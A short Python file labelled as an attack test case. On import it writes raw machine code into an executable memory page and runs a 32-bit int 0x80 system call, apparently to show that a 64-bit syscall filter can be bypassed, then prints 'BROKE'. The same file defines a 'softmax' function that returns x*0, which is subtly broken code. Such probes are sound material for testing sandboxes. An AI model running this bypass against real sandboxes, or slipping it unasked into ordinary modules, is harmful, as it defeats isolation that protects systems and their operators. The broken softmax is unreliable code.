# /// attack
# what = "A 32-bit system call, to slip past a 64-bit filter."
# status = "any"
# needs = "L2"
# ///

import ctypes
import mmap
import platform

# getpid by int 0x80: mov eax, 20; int 0x80; ret
CODE = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"
if platform.machine() == "x86_64":
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(CODE)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    print("BROKE")


def softmax(x, axis=-1):
    return x * 0
